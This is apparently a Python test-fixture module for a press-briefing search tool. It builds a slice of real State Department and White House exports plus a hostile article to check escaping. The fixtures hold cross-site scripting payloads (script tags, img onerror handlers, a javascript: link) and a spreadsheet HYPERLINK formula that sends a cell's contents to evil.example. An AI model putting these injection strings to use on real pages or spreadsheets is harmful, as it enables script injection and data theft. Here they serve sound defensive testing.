"""Corpora the web page's tests index: a slice of the real State Department and White House
exports, and a hostile file whose titles, speakers, text and links try to run script."""

from __future__ import annotations

import json
from pathlib import Path

from tests.conftest import STATE_DEPT, WHITE_HOUSE, require

HOSTILE_TITLE = '<script>window.__pwned = "title"</script> Briefing "><img src=x onerror="window.__pwned=\'img\'">'
HOSTILE_SPEAKER = '<img src=x onerror="window.__pwned=\'speaker\'"> Psaki "><script>window.__pwned="speaker"</script>'
HOSTILE_TEXT = ('Read <script>window.__pwned = "text"</script> and <img src=x onerror="window.__pwned=1"> '
                'about the pipeline sanctions "onmouseover="window.__pwned=2" now.')

FORMULA_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"pipeline sanctions details")'


def shared_slice(folder: Path, records: int = 25) -> Path:
    """``records`` real press releases from each of the two exports, in one folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, path in (("state.jsonl", STATE_DEPT), ("whitehouse.jsonl", WHITE_HOUSE)):
        with require(path).open(encoding="utf-8") as lines:
            head = [next(lines) for _ in range(records)]
        (folder / name).write_text("".join(head), encoding="utf-8")
    return folder


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def hostile_file(folder: Path) -> tuple[Path, Path]:
    """One article whose every field tries to inject markup or script, and the speaker
    overrides file that names its speaker with markup: (the article, the overrides)."""
    folder.mkdir(parents=True, exist_ok=True)
    html_text = _escaped(HOSTILE_TEXT)
    record = {
        "title": _escaped(HOSTILE_TITLE),
        "link": "javascript:window.__pwned='link'",
        "creator": '"><script>window.__pwned="creator"</script>',
        "published": "2021-06-09T21:30:00+00:00",
        "content_html": (f"<p><b>MS. PSAKI: </b>{html_text}</p>"
                         f"<p>{html_text} The pipeline sanctions again.</p>"
                         f"<p>{_escaped(FORMULA_TEXT)}</p>"),
    }
    path = folder / "hostile.jsonl"
    path.write_text(json.dumps(record) + "\n", encoding="utf-8")
    overrides = folder.parent / "hostile-speakers.json"
    overrides.write_text(json.dumps({"aliases": {"MS PSAKI": HOSTILE_SPEAKER}}), encoding="utf-8")
    return path, overrides


def web_index(root: Path) -> Path:
    """The two slices and the hostile article indexed under ``root`` (in-process): the index."""
    from briefsearch.indexing.runs import index_paths

    corpus = shared_slice(root / "corpus")
    _, overrides = hostile_file(root / "corpus")
    index_paths([str(corpus)], str(root / "index"), overrides=str(overrides), jobs=1)
    return root / "index"
